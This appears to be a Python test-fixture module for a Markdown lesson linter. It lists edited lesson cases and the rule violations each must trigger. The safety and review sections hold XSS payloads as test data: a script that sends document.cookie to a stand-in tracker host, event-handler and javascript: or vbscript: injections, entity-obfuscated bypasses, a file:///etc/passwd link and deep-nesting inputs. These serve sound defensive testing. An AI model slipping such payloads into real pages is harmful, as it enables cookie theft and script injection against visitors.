"""The lesson rule cases: the good lesson with one mistake each, written as text edits.

Every case is ``fixtures/lessons/valid/good-lesson.md`` changed by a few edits and
the exact problems the rules must find in it, as ``(rule id, line)``; lines are
lines of the edited file. An edit is ``(old, new)``: ``old`` occurs exactly once
in the good lesson and is replaced by ``new`` (:func:`after` inserts, :func:`delete`
removes). All edits of a case apply to the good lesson as it is, so their order
does not matter. ``tests/unit/test_lesson_rules.py`` checks each case in a tiny
course; ``tests/site/test_lesson_checks_build.py`` builds some of them.

A file that is not UTF-8 is written with ``surrogateescape``: ``"\\udce9"`` in an
edit is the single byte 0xe9.
"""

from __future__ import annotations

from pathlib import Path

__all__ = [
    "CASES",
    "GOOD",
    "GOOD_LESSON",
    "LIMIT_CASES",
    "NOT_IN_NAV",
    "QUIZ_CASES",
    "REVIEW_CASES",
    "VALID_CASES",
    "Case",
    "after",
    "apply",
    "case_bytes",
    "delete",
    "lesson_bytes",
]

#: The lesson that follows every rule; every case is an edit of it.
GOOD_LESSON = Path(__file__).resolve().parent / "fixtures" / "lessons" / "valid" / "good-lesson.md"
GOOD = GOOD_LESSON.read_bytes().decode("utf-8")
#: The good lesson's front matter block, both ``---`` lines included.
FRONT_MATTER = GOOD[: GOOD.index("\n---\n") + 5]
#: The lines between the two ``---`` lines.
FRONT_MATTER_KEYS = FRONT_MATTER[4:-4]
#: The ``## Try it`` section, up to the ``## Key takeaways`` heading.
TRY_IT = GOOD[GOOD.index("## Try it\n") : GOOD.index("## Key takeaways\n")]

Edit = tuple[str, str]


def after(anchor: str, text: str) -> Edit:
    """The edit that inserts ``text`` right after ``anchor``."""
    return (anchor, anchor + text)


def delete(text: str) -> Edit:
    """The edit that removes ``text``."""
    return (text, "")


class Case:
    """One case: the ``expect``-ed ``(rule id, line)`` problems and the ``edits``.

    ``bom`` writes a UTF-8 byte order mark first; ``crlf`` writes ``\\r\\n`` line endings.
    """

    __slots__ = ("bom", "crlf", "edits", "expect")

    def __init__(
        self, expect: list[tuple[str, int]], *edits: Edit, bom: bool = False, crlf: bool = False
    ) -> None:
        self.expect, self.edits, self.bom, self.crlf = expect, edits, bom, crlf


def apply(edits: tuple[Edit, ...] | list[Edit], text: str = GOOD) -> str:
    """``text`` (the good lesson) with every edit applied.

    Raises:
        ValueError: An ``old`` text does not occur exactly once, or two edits overlap.
    """
    spans: list[tuple[int, int, str]] = []
    for old, new in edits:
        if not old or text.count(old) != 1:
            raise ValueError(f"edit {old[:60]!r} occurs {text.count(old)} times, not once")
        start = text.index(old)
        spans.append((start, start + len(old), new))
    spans.sort()
    for (_, end, _), (start, _, _) in zip(spans, spans[1:], strict=False):
        if end > start:
            raise ValueError("two edits overlap")
    for start, end, new in reversed(spans):
        text = text[:start] + new + text[end:]
    return text


def case_bytes(case: Case) -> bytes:
    """The file of ``case``, as bytes."""
    text = apply(case.edits)
    if case.crlf:
        text = text.replace("\n", "\r\n")
    data = text.encode("utf-8", "surrogateescape")
    return b"\xef\xbb\xbf" + data if case.bom else data


def lesson_bytes(name: str) -> bytes:
    """The file of the case or valid variant called ``name`` (without ``.md``).

    Raises:
        KeyError: No case has that name.
    """
    return case_bytes(CASES[name] if name in CASES else VALID_CASES[name])


TITLE = "title: Ask before you advise"

#: Inputs that follow every rule: the good lesson, its neighbor in the test course,
#: and the same lesson in other encodings and with other titles.
VALID_CASES: dict[str, Case] = {
    "good-lesson": Case([]),
    "sibling": Case(
        [],
        (TITLE, "title: Listen before you answer"),
        (
            "description: A practice lesson for the test suite that meets every rule of the "
            "lesson anatomy.",
            "description: A second practice lesson for the test suite; links in the corpus "
            "point to it.",
        ),
    ),
    "bom": Case([], (TITLE, TITLE + " (with BOM)"), bom=True),
    "crlf": Case([], (TITLE, TITLE + " (CRLF)"), crlf=True),
    "bom-crlf": Case([], (TITLE, TITLE + " (BOM, CRLF)"), bom=True, crlf=True),
    "non-ascii-title": Case([], (TITLE, 'title: "Pregunta antes de aconsejar: ¿qué necesita?"')),
    "emoji-title": Case([], (TITLE, "title: Ask first, then help \U0001f642\U0001f91d")),
}

#: The second paragraph of prose the long cases add (once: 10 lines; 7 times: 70 lines).
OMAR = (
    "\n"
    "Later that week Dana talks with Omar, a builder who buys grout and edge trim every\n"
    "Monday. Omar mentions that his crew keeps cutting tiles too short on stairs. Dana could\n"
    "sell him a better saw. Instead she asks how the crew measures each step, and learns\n"
    "that they measure once at the top and assume every step is the same height. It is not.\n"
    "Dana suggests measuring every step, and she lends Omar a simple step gauge from the\n"
    "back room. Omar buys nothing extra that day. The next month he moves his whole tile\n"
    "order to Pinecrest, because Dana helped him fix a problem instead of selling him a\n"
    "tool he did not need. A question took a minute. The trust it built lasted far longer\n"
    "than one sale, and Omar now tells other builders where to shop.\n"
)

#: case name -> what it changes and the exact problems it must produce
CASES: dict[str, Case] = {
    # the five "inputs that fail today" from issue 3
    "issue1-unquoted-colon": Case(
        [("FM003", 2)],
        ("title: Ask before you advise", "title: Selling: the basics"),
    ),
    "issue2-audience-no": Case(
        [("FM007", 8)],
        ("audience: [sales, service]", "audience: [no, service]"),
    ),
    "issue3-no-front-matter": Case(
        [("FM001", 1)],
        (FRONT_MATTER, "Tip: open with a question\n"),
    ),
    "issue4-inline-code-blank": Case(
        [("QUIZ010", 49)],
        (
            'A customer asks for "a stronger tile." What should you do first?',
            (
                'Your colleague types `df[["price"]]` into the stock sheet. What should you '
                "ask first?"
            ),
        ),
    ),
    "issue5-not-in-nav": Case(
        [("NAV001", 1)],
        ("title: Ask before you advise", "title: A lesson nobody added to the navigation"),
    ),
    # front matter
    "fm-unclosed": Case(
        [("FM002", 1)],
        ("assesses: [2, 1]\n---\n", "assesses: [2, 1]\n"),
    ),
    "fm-not-a-mapping": Case(
        [("FM004", 2)],
        (FRONT_MATTER_KEYS, "- title\n- description\n"),
    ),
    "fm-unknown-key": Case(
        [("FM005", 9)],
        after("audience: [sales, service]\n", "level: beginner\n"),
    ),
    "fm-unknown-key-typo": Case(
        [("FM005", 8)],
        ("audience: [sales, service]", "audiance: [sales, service]"),  # codespell:ignore
    ),
    "fm-missing-title": Case(
        [("FM006", 1)],
        delete("title: Ask before you advise\n"),
    ),
    "fm-title-yes": Case(
        [("FM007", 2)],
        ("title: Ask before you advise", "title: yes"),
    ),
    "fm-title-date": Case(
        [("FM007", 2)],
        ("title: Ask before you advise", "title: 2024-05-01"),
    ),
    "fm-title-number": Case(
        [("FM007", 2)],
        ("title: Ask before you advise", "title: 1.10"),
    ),
    "fm-title-short": Case(
        [("FM008", 2)],
        ("title: Ask before you advise", "title: Ask"),
    ),
    "fm-description-long": Case(
        [("FM009", 3)],
        (
            (
                "description: A practice lesson for the test suite that meets every rule of "
                "the lesson anatomy."
            ),
            (
                "description: This description keeps going well past the point where a lesson "
                "card or a search result can show it, so readers would only ever see the first "
                "part of it, and the rest of the words would be cut off."
            ),
        ),
    ),
    "fm-duration-text": Case(
        [("FM010", 4)],
        after("duration: 3", " min"),
    ),
    "fm-duration-range": Case(
        [("FM011", 4)],
        ("duration: 3", "duration: 12"),
    ),
    "fm-duration-too-short": Case(
        [("FM012", 4)],
        ("duration: 3", "duration: 2"),
        after("crack because it was weak. It cracked because the floor under it moved.\n", OMAR),
    ),
    "fm-objectives-string": Case(
        [("FM013", 5)],
        (
            (
                "objectives:\n"
                "  - Ask one open question before you suggest a product\n"
                "  - Notice when a suggestion comes too early\n"
            ),
            "objectives: Ask questions first\n",
        ),
    ),
    "fm-objectives-too-many": Case(
        [("FM013", 5)],
        after(
            "  - Notice when a suggestion comes too early\n",
            "  - Wait for the whole answer\n  - Offer one idea, not five\n",
        ),
    ),
    "fm-objectives-empty-item": Case(
        [("FM013", 7)],
        ("  - Notice when a suggestion comes too early", '  - ""'),
    ),
    "fm-objective-unquoted-colon": Case(
        [("FM007", 6)],
        (
            "  - Ask one open question before you suggest a product",
            "  - Ask one open question: then suggest a product",
        ),
    ),
    "fm-audience-unknown": Case(
        [("FM014", 8)],
        ("audience: [sales, service]", "audience: [sales, marketing]"),
    ),
    "fm-former-ids-bad": Case(
        [("FM015", 9)],
        after("audience: [sales, service]\n", "former_ids: [Old Lesson]\n"),
    ),
    "fm-duplicate-key": Case(
        [("FM016", 9)],
        after("audience: [sales, service]\n", "duration: 4\n"),
    ),
    # headings
    "head-h1": Case(
        [("HEAD001", 12)],
        after("assesses: [2, 1]\n---\n", "\n# Ask before you advise\n"),
    ),
    "head-skip": Case(
        [("HEAD002", 30)],
        (
            "### What a good first question sounds like",
            "#### What a good first question sounds like",
        ),
    ),
    "head-empty": Case(
        [("HEAD003", 23)],
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n", "\n##\n"
        ),
    ),
    "head-duplicate": Case(
        [("HEAD004", 30)],
        ("### What a good first question sounds like", "### Why the question comes first"),
    ),
    # prose and closing sections
    "body-too-short": Case(
        [("BODY001", 12)],
        delete(
            "She does not do that. She asks where the tile is going, who walks on that "
            "floor, and\n"
            "what went wrong with the old one. The customer explains that the tile sits by "
            "the back\n"
            "door, where her two dogs come in from the garden with wet paws. The old tile "
            "did not\n"
            "crack because it was weak. It cracked because the floor under it moved.\n"
            "\n"
        ),
        delete(
            "\n"
            "A suggestion made before you understand the problem is a guess. Even a good "
            "guess tells\n"
            "the customer that you care more about closing the sale than about their floor. A\n"
            "question tells them the opposite. It also gives you the facts you need to "
            "help, and it\n"
            "often saves both of you from an expensive mistake.\n"
        ),
        delete("Good first questions are open and plain. "),
    ),
    "body-too-long": Case(
        [("BODY002", 12)],
        ("duration: 3", "duration: 10"),
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n", OMAR * 7
        ),
    ),
    "body-closing-order": Case(
        [("BODY003", 36)],
        delete(TRY_IT),  # ... and back in after "Key takeaways"
        after(
            "- Open questions give you the facts that make your help useful.\n", "\n" + TRY_IT[:-1]
        ),
    ),
    "body-missing-try-it": Case(
        [("BODY003", 23)],
        delete(TRY_IT),
    ),
    "body-takeaways-one": Case(
        [("BODY004", 41)],
        delete("- Open questions give you the facts that make your help useful.\n"),
    ),
    "body-takeaways-paragraph": Case(
        [("BODY004", 46)],
        after(
            "- Open questions give you the facts that make your help useful.\n\n",
            "Keep these two points in mind on your next shift.\n\n",
        ),
    ),
    # quizzes
    "quiz-outside-check": Case(
        [("QUIZ001", 41)],
        after(
            "Then she waits for the whole story.\n",
            (
                "<quiz>\n"
                'A customer asks for "a stronger tile." What should you do first?\n'
                "- [x] Ask where the tile goes and what happened to the old one\n"
                "> The answer tells you what the customer actually needs.\n"
                "- [ ] Point to the most durable tile in the shop and name its price\n"
                "> That is a guess; it can sell the wrong product.\n"
                "</quiz>\n"
                "\n"
            ),
        ),
    ),
    "quiz-count-one": Case(
        [("QUIZ002", 46)],
        delete(
            "\n"
            "<quiz>\n"
            "Why does an open question work better than a yes-or-no question here?\n"
            "- [ ] It keeps the talk short, so the customer can get on with her day\n"
            "> Open questions usually make it longer, and that is fine.\n"
            "- [x] The customer answers in their own words and shows what matters\n"
            "> Their words tell you how to help.\n"
            "</quiz>\n"
        ),
    ),
    "quiz-unclosed": Case(
        [("QUIZ002", 46), ("QUIZ003", 48)],
        (
            "> That is a guess; it can sell the wrong product.\n</quiz>\n",
            "> That is a guess; it can sell the wrong product.\n",
        ),
    ),
    "quiz-one-option": Case(
        [("QUIZ004", 48), ("QUIZ005", 48)],
        delete(
            "- [ ] Point to the most durable tile in the shop and name its price\n"
            "> That is a guess; it can sell the wrong product.\n"
        ),
    ),
    "quiz-no-correct": Case(
        [("QUIZ005", 48)],
        (
            "- [x] Ask where the tile goes and what happened to the old one",
            "- [ ] Ask where the tile goes and what happened to the old one",
        ),
    ),
    "quiz-duplicate-option": Case(
        [("QUIZ006", 52)],
        (
            "- [ ] Point to the most durable tile in the shop and name its price",
            "- [ ]  ask where the tile goes and what happened to the OLD one",
        ),
    ),
    "quiz-missing-explanation": Case(
        [("QUIZ007", 50)],
        delete("> The answer tells you what the customer actually needs.\n"),
    ),
    "quiz-explanation-after-blank": Case(
        [("QUIZ007", 50)],
        after("- [x] Ask where the tile goes and what happened to the old one\n", "\n"),
    ),
    "quiz-no-question": Case(
        [("QUIZ008", 48)],
        delete('A customer asks for "a stronger tile." What should you do first?\n'),
    ),
    "quiz-bad-checkbox": Case(
        [("QUIZ005", 48), ("QUIZ009", 50)],
        (
            "- [x] Ask where the tile goes and what happened to the old one",
            "- [v] Ask where the tile goes and what happened to the old one",
        ),
    ),
    "quiz-blank-no-explanation": Case(
        [("QUIZ011", 56)],
        (
            (
                "Why does an open question work better than a yes-or-no question here?\n"
                "- [ ] It keeps the talk short, so the customer can get on with her day\n"
                "> Open questions usually make it longer, and that is fine.\n"
                "- [x] The customer answers in their own words and shows what matters\n"
                "> Their words tell you how to help.\n"
            ),
            "An open question lets the customer answer in their own [[words]].\n",
        ),
    ),
    "quiz-no-answers": Case(
        [("QUIZ012", 56)],
        (
            (
                "Why does an open question work better than a yes-or-no question here?\n"
                "- [ ] It keeps the talk short, so the customer can get on with her day\n"
                "> Open questions usually make it longer, and that is fine.\n"
                "- [x] The customer answers in their own words and shows what matters\n"
                "> Their words tell you how to help.\n"
            ),
            "Why does an open question work better than a yes-or-no question?\n",
        ),
    ),
    "quiz-stray-close": Case(
        [("QUIZ013", 63)],
        after("> Their words tell you how to help.\n</quiz>\n", "</quiz>\n"),
    ),
    "quiz-position-wording": Case(
        [("QUIZ019", 53)],
        (
            "> That is a guess; it can sell the wrong product.",
            "> Unlike the first option, that is a guess.",
        ),
    ),
    "quiz-length-spread": Case(
        [("QUIZ020", 56)],
        (
            "- [ ] It keeps the talk short, so the customer can get on with her day",
            "- [ ] It is short",
        ),
    ),
    # objectives, exercise time
    "fm-assesses-missing": Case(
        [("FM019", 6)],
        delete("assesses: [2, 1]\n"),
    ),
    "fm-assesses-count": Case(
        [("FM019", 9)],
        ("assesses: [2, 1]", "assesses: [2, 1, 1]"),
    ),
    "fm-assesses-range": Case(
        [("FM019", 9)],
        ("assesses: [2, 1]", "assesses: [3, 1]"),
    ),
    "fm-assesses-uncovered": Case(
        [("FM019", 9)],
        ("assesses: [2, 1]", "assesses: [1, 1]"),
    ),
    "fm-assesses-not-numbers": Case(
        [("FM019", 9)],
        ("assesses: [2, 1]", "assesses: [two, one]"),
    ),
    "body-exercise-time": Case(
        [("BODY009", 36)],
        delete("**Time:** about 1 minute. "),
    ),
    "fm-duration-exercise": Case(
        [("FM012", 4)],
        ("**Time:** about 1 minute. ", "**Time:** about 5 minutes. "),
    ),
    # links and images
    "link-vague-text": Case(
        [("LINK001", 34)],
        after(
            "words, and those words show you what matters to them.",
            " Read more [here](sibling.md).",
        ),
    ),
    "link-vague-text-bold": Case(
        [("LINK001", 34)],
        after(
            "words, and those words show you what matters to them.",
            " For the full list, [**click here**](sibling.md).",
        ),
    ),
    "link-broken": Case(
        [("LINK002", 34)],
        after(
            "words, and those words show you what matters to them.",
            " See [the pricing lesson](pricing.md).",
        ),
    ),
    "link-broken-anchor": Case(
        [("LINK003", 34)],
        after(
            "words, and those words show you what matters to them.",
            " See [the first question](#the-first-question).",
        ),
    ),
    "link-image-alt": Case(
        [("LINK004", 23)],
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n",
            "\n![](counter.svg)\n",
        ),
    ),
    # safety
    "safe-script": Case(
        [("SAFE001", 23)],
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n",
            (
                "\n"
                "<script>\n"
                "fetch('https://tracker.example/steal?c=' + document.cookie)\n"
                "</script>\n"
            ),
        ),
    ),
    "safe-iframe": Case(
        [("SAFE001", 23)],
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n",
            '\n<iframe src="https://video.example/watch"></iframe>\n',
        ),
    ),
    "safe-style": Case(
        [("SAFE001", 23)],
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n",
            "\n<style>body { display: none; }</style>\n",
        ),
    ),
    "safe-object": Case(
        [("SAFE001", 23)],
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n",
            '\n<object data="tiles.swf"></object>\n',
        ),
    ),
    "safe-onclick": Case(
        [("SAFE002", 21)],
        (
            "crack because it was weak. It cracked because the floor under it moved.",
            (
                "crack because it was weak. It cracked because the <span "
                'onclick="steal()">floor</span> under it moved.'
            ),
        ),
    ),
    "safe-javascript-link": Case(
        [("SAFE003", 34)],
        after(
            "words, and those words show you what matters to them.",
            " Try [the tile calculator](javascript:alert(1)).",
        ),
    ),
    "safe-vbscript-html": Case(
        [("SAFE003", 34)],
        after(
            "words, and those words show you what matters to them.",
            ' Try <a href="vbscript:msgbox(1)">the tile calculator</a>.',
        ),
    ),
    "safe-entity-javascript-html": Case(
        [("SAFE003", 34)],
        after(
            "words, and those words show you what matters to them.",
            ' Try <a href="&#106;avascript:alert(1)">the tile calculator</a>.',
        ),
    ),
    "safe-tab-javascript-link": Case(
        [("SAFE003", 34)],
        after(
            "words, and those words show you what matters to them.",
            " Try [the tile calculator](java&#9;script:alert(1)).",
        ),
    ),
    "safe-data-image": Case(
        [("SAFE003", 23)],
        after(
            "crack because it was weak. It cracked because the floor under it moved.\n",
            "\n![A cracked tile by a back door](data:image/png;base64,iVBORw0KGgo=)\n",
        ),
    ),
    # the course
    "nav-duplicate-title": Case(
        [("NAV003", 2)],
        ("title: Ask before you advise", "title: Listen before you answer"),
    ),
    "nav-former-id-clash": Case(
        [("NAV004", 9)],
        after("audience: [sales, service]\n", "former_ids: [practice/sibling]\n"),
    ),
    # files
    "file-not-utf8": Case(
        [("FILE001", 13)],
        # "café" in Latin-1: the byte 0xe9 is not UTF-8
        ("homeowners and builders", "homeowners caf\udce9 and builders"),  # codespell:ignore
    ),
    "file-placeholder-left": Case(
        [("FILE003", 38)],
        after("**Time:** about 1 minute. ", "TODO: write the exercise. "),
    ),
    # content
    "content-dense-prose": Case(
        [("CONTENT001", 12)],  # reading ease 31.7
        (
            "She does not do that. She asks where the tile is going, who walks on that floor, and\n"
            "what went wrong with the old one. The customer explains that the tile "
            "sits by the back\n"
            "door, where her two dogs come in from the garden with wet paws. The old tile did not\n"
            "crack because it was weak. It cracked because the floor under it moved.\n",
            "Deliberately, she postpones recommendations, investigating the "
            "installation location,\n"
            "the anticipated pedestrian circulation and the deterioration "
            "mechanism. Consequently the\n"
            "customer elaborates: the installation adjoins an exterior entrance "
            "where domesticated\n"
            "animals habitually enter; the deterioration originated in structural "
            "subfloor instability.\n",
        ),
        (
            "A suggestion made before you understand the problem is a guess. Even "
            "a good guess tells\n"
            "the customer that you care more about closing the sale than about their floor. A\n"
            "question tells them the opposite. It also gives you the facts you "
            "need to help, and it\n"
            "often saves both of you from an expensive mistake.\n",
            "A recommendation articulated prematurely, before comprehensive understanding of the\n"
            "customer's circumstances, constitutes speculation; even accurate "
            "speculation communicates\n"
            "institutional prioritization of transactional completion over "
            "individualized requirements,\n"
            "whereas interrogative engagement communicates the contrary "
            "organizational orientation.\n",
        ),
    ),
    "content-no-worked-example": Case(
        [("CONTENT002", 36)],
        delete(
            '??? example "A worked answer: what Dana asks"\n'
            '    "Before I show you anything, what happened to the old tile?" '
            "Then she waits for the whole story.\n"
        ),
    ),
}

#: Cases that are written to the test course but not listed in its nav.
NOT_IN_NAV = {"issue5-not-in-nav"}


# -- the gate of issue 13: markup, HTML and URL allowlists, quiz syntax, Markdown that
# renders unlike GitHub, remote images (one change each; tests/unit/test_gate.py has
# the cases that need other files) ---------------------------------------------------

PARAGRAPH = "A suggestion made before you understand the problem is a guess."  # line 24

CASES.update(
    {
        "noscript-parser-trick": Case(
            [("SAFE001", 25)],
            (PARAGRAPH, '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
        ),
        "description-breaks-out-of-meta": Case(
            [("FM017", 3)],
            (
                "description: A practice lesson for the test suite that meets every rule of the"
                " lesson anatomy.",
                "description: '0;url=https://x.example/ A practice lesson that stands on the"
                ' side of the caller" http-equiv="refresh\'',
            ),
        ),
        "title-script": Case(
            [("FM017", 2)],
            ("title: Ask before you advise", 'title: "Ask <script>alert(1)</script> first"'),
        ),
        "title-img-onerror": Case(
            [("FM017", 2)],
            ("title: Ask before you advise", "title: Ask <img src=x onerror=alert(1)> first"),
        ),
        "title-entity": Case(
            [("FM017", 2)], ("title: Ask before you advise", "title: Ask &amp; advise")
        ),
        "title-link": Case(
            [("FM017", 2)],
            ("title: Ask before you advise", "title: Ask [first](https://x.example)"),
        ),
        "title-emphasis": Case(
            [("FM017", 2)], ("title: Ask before you advise", "title: Ask **before** you advise")
        ),
        "description-code": Case(
            [("FM017", 3)], ("description: A practice lesson", "description: A `practice` lesson")
        ),
        "meta-refresh": Case(
            [("SAFE001", 25)],
            (PARAGRAPH, '<meta http-equiv="refresh" content="0;url=https://x.example">'),
        ),
        "base-href": Case([("SAFE001", 25)], (PARAGRAPH, '<base href="https://x.example/">')),
        "link-stylesheet": Case(
            [("SAFE001", 25)], (PARAGRAPH, '<link rel="stylesheet" href="https://x.example/a.css">')
        ),
        "svg-animate": Case(
            [("SAFE001", 25), ("SAFE001", 25)],
            (PARAGRAPH, '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>'),
        ),
        "style-overlay": Case(
            [("SAFE004", 25)], (PARAGRAPH, '<div style="position:fixed;inset:0">Win a prize</div>')
        ),
        "target-blank": Case(
            [("SAFE004", 25)],
            (PARAGRAPH, '<a href="https://x.example" target="_blank">the shop</a>'),
        ),
        "attr-list-onclick": Case(
            [("SAFE002", 25)], (PARAGRAPH, 'Read [the guide](../index.md){ onclick="alert(1)" }.')
        ),
        "attr-list-style": Case(
            [("SAFE004", 26)], (PARAGRAPH, 'A quiet paragraph.\n{: style="display:none" }')
        ),
        "attr-list-href": Case(
            [("SAFE003", 25)],
            (PARAGRAPH, 'Read [the guide](../index.md){ href="javascript:alert(1)" }.'),
        ),
        "file-scheme": Case(
            [("SAFE003", 25)], (PARAGRAPH, "Read [the old notes](file:///etc/passwd).")
        ),
        "ftp-image": Case([("SAFE003", 25)], (PARAGRAPH, "![A tile](ftp://x.example/tile.png)")),
        "old-quiz-syntax": Case(
            [("QUIZ014", 25), ("QUIZ014", 25)],
            (PARAGRAPH, "Old lessons used <?quiz?> and <?/quiz?> tags."),
        ),
        "old-quiz-syntax-in-code": Case(
            [("QUIZ014", 25)], (PARAGRAPH, "Old lessons used `<?quiz?>` tags.")
        ),
        "quiz-tag-case": Case(
            [("QUIZ002", 46), ("QUIZ013", 62), ("QUIZ015", 56)],
            ("<quiz>\nWhy does", "<Quiz>\nWhy does"),
        ),
        "stray-line-between-options": Case(
            [("QUIZ016", 54)],
            (
                "> That is a guess; it can sell the wrong product.\n",
                (
                    "> That is a guess; it can sell the wrong product.\nSee the price list.\n"
                    "- [ ] Ask for a photo of the floor\n"
                    "> A photo helps, but a question comes first.\n"
                ),
            ),
        ),
        "list-paragraph-2-spaces": Case(
            [("BODY005", 27)],
            (PARAGRAPH, "1. Ask one question.\n\n  Then listen to the answer.\n2. Offer one idea."),
        ),
        "list-fence-3-spaces": Case(
            [("BODY005", 27)],
            (
                PARAGRAPH,
                "1. Ask one question:\n\n   ```text\n   What happened?\n   ```\n2. Listen.",
            ),
        ),
        "box-body-flush": Case(
            [("BODY006", 27)],
            (PARAGRAPH, '??? example "A worked answer"\n\nThe answer shows openly.'),
        ),
        "box-body-2-spaces": Case(
            [("BODY006", 27)],
            (PARAGRAPH, '??? example "A worked answer"\n\n  The answer shows openly.'),
        ),
        "box-title-unquoted": Case(
            [("BODY007", 25)],
            (PARAGRAPH, "??? example Worked answer\n\n    The answer, in the box."),
        ),
        "task-list": Case([("BODY008", 25)], (PARAGRAPH, "- [ ] Ask one open question first")),
        "placeholder-tbd": Case([("FILE003", 25)], (PARAGRAPH, "TBD: a second example.")),
        "placeholder-todo-brackets": Case(
            [("FILE003", 25)], (PARAGRAPH, "A second example [todo].")
        ),
        "placeholder-fixme": Case([("FILE003", 25)], (PARAGRAPH, "FIXME this example.")),
        "remote-image": Case(
            [("LINK005", 25)], (PARAGRAPH, "![A tile](https://x.example/tile.png)")
        ),
        "remote-img-tag": Case(
            [("LINK005", 25)], (PARAGRAPH, '<img src="//x.example/tile.png" alt="A tile">')
        ),
    }
)

# -- the attack review of issue 13: what the strict build refused (SAFE005) or
# published while the check accepted it; the check now refuses each at its line, with
# the message the build gives (tests/site/test_gate_build.py builds them) -------------

#: The review's cases, built by the strict-build test as well.
REVIEW_CASES = [
    "box-title-html",
    "details-title-html",
    "tab-title-html",
    "box-title-remote-image",
    "attr-list-quoted-brace",
    "heading-attr-list-quoted-brace",
    "attr-list-bare-event",
    "entity-attribute-name",
    "entity-event-name",
    "backslash-before-html",
    "attr-list-src",
    "attr-list-upper-src",
    "div-markdown-remote-image",
]

CASES.update(
    {
        "box-title-html": Case(
            [("SAFE002", 25)],
            (PARAGRAPH, '!!! note "Hi <b onclick=alert(1)>there</b>"\n\n    Body.\n\n'),
        ),
        "details-title-html": Case(
            [("SAFE002", 25)],
            (PARAGRAPH, '??? note "Hi <b onclick=alert(1)>there</b>"\n    Body.\n\n'),
        ),
        "tab-title-html": Case(
            [("SAFE002", 25)],
            (PARAGRAPH, '=== "Hi <i onclick=alert(1)>there</i>"\n\n    Body.\n\n'),
        ),
        "box-title-remote-image": Case(
            [("LINK005", 25)],
            (PARAGRAPH, '!!! note "See ![a tile](https://x.example/t.png)"\n\n    Body.\n\n'),
        ),
        "attr-list-quoted-brace": Case(
            [("SAFE002", 26)], (PARAGRAPH, 'A paragraph.\n{ title="}" onclick="alert(1)" }\n\n')
        ),
        "heading-attr-list-quoted-brace": Case(
            [("SAFE002", 30)],
            (
                "### What a good first question sounds like",
                '### What a good first question sounds like { title="}" onclick="alert(1)" }',
            ),
        ),
        "attr-list-bare-event": Case(
            [("SAFE002", 26)], (PARAGRAPH, "A paragraph.\n{ .note onclick }\n\n")
        ),
        "entity-attribute-name": Case(
            [("SAFE004", 25)], (PARAGRAPH, 'Text <span st&#x79;le="position:fixed">x</span>.')
        ),
        "entity-event-name": Case(
            [("SAFE004", 25)], (PARAGRAPH, 'Text <span on&#x63;lick="alert(1)">x</span>.')
        ),
        "backslash-before-html": Case(
            [("SAFE002", 25)], (PARAGRAPH, 'Text \\<b onclick="alert(1)">x</b>.')
        ),
        "attr-list-src": Case(
            [("LINK005", 25)],
            (PARAGRAPH, '![A tile](counter.svg){ src="https://x.example/t.png" }\n\n'),
        ),
        "attr-list-upper-src": Case(
            [("LINK005", 25)],
            (PARAGRAPH, '![A tile](counter.svg){ SRC="https://x.example/t.png" }\n\n'),
        ),
        "div-markdown-remote-image": Case(
            [("LINK005", 26)],
            (PARAGRAPH, "<div markdown>\n![A tile](https://x.example/t.png)\n</div>\n\n"),
        ),
    }
)

#: Pages that made the strict build stop with a traceback or never finish (the review's
#: and more of their kind): each is refused at its line, and the build shows the page
#: as a notice instead of rendering it (tests/site/test_gate_build.py builds them).
LIMIT_CASES = [
    "nested-div-markdown",
    "nested-list-markers",
    "nested-quotes",
    "brackets-long-line",
    "brackets-short-line",
    "dense-inline-markup",
]

CASES.update(
    {
        "nested-div-markdown": Case(
            [("FILE009", 45)],
            (PARAGRAPH, "<div markdown>\n" * 3000 + "A tile.\n" + "</div>\n" * 3000),
        ),
        "nested-list-markers": Case(
            [("FILE009", 25)], (PARAGRAPH, "- " * 600 + "A tile.\n\n" + PARAGRAPH)
        ),
        "nested-quotes": Case(
            [("FILE009", 35)],
            (PARAGRAPH, "".join(">" * depth + " A tile.\n" for depth in range(1, 300)) + "\n"),
        ),
        "brackets-long-line": Case(
            [("FILE006", 25), ("FILE008", 25)], (PARAGRAPH, "[" * 50_000 + "\n\n")
        ),
        "brackets-short-line": Case([("FILE008", 25)], (PARAGRAPH, "[" * 1999 + "\n\n")),
        "dense-inline-markup": Case(
            [("FILE008", 25)],
            (PARAGRAPH, "\n".join(["[a tile](counter.svg) " * 90] * 6) + "\n\n"),
        ),
    }
)

#: Quiz text with script or a remote request: mkdocs-quiz renders it after the
#: sanitizer has run on the page, so the build sanitizes each quiz again
#: (hooks/lesson_checks.py); the check refuses it at its line (tests/site/test_gate_build.py
#: builds them and reads the published quizzes).
QUIZ_CASES = [
    "quiz-question-script",
    "quiz-option-onclick",
    "quiz-explanation-remote-image",
    "quiz-explanation-attr-list",
]

CASES.update(
    {
        "quiz-question-script": Case(
            [("SAFE001", 49)],
            (
                'A customer asks for "a stronger tile." What should you do first?',
                'A customer asks for "a stronger tile." <script>alert(1)</script> What first?',
            ),
        ),
        "quiz-option-onclick": Case(
            [("SAFE002", 50)],
            (
                "- [x] Ask where the tile goes and what happened to the old one",
                "- [x] Ask where the tile <b onclick=alert(1)>goes</b> and what happened",
            ),
        ),
        "quiz-explanation-remote-image": Case(
            [("LINK005", 51)],
            (
                "> The answer tells you what the customer actually needs.",
                "> The answer ![tells](https://x.example/q.png) you what the customer needs.",
            ),
        ),
        "quiz-explanation-attr-list": Case(
            [("SAFE002", 51)],
            (
                "> The answer tells you what the customer actually needs.",
                "> The answer tells you *what*{ onmouseover=alert(1) } the customer needs.",
            ),
        ),
    }
)

VALID_CASES.update(
    {
        "details-summary": Case(
            [], (PARAGRAPH, "<details><summary>Why</summary>Because.</details>")
        ),
        "kbd-abbr-br": Case(
            [],
            (PARAGRAPH, 'Press <kbd>Enter</kbd>, then <abbr title="point of sale">POS</abbr>.<br>'),
        ),
        "span-class": Case([], (PARAGRAPH, '<span class="note">A short note.</span>')),
        "img-alt": Case([], (PARAGRAPH, '<img src="counter.svg" alt="A shop counter">')),
        "https-and-mailto": Case(
            [],
            (
                PARAGRAPH,
                "Write to [the shop](mailto:shop@x.example) or read [its guide](https://x.example/guide).",
            ),
        ),
        "plain-title": Case(
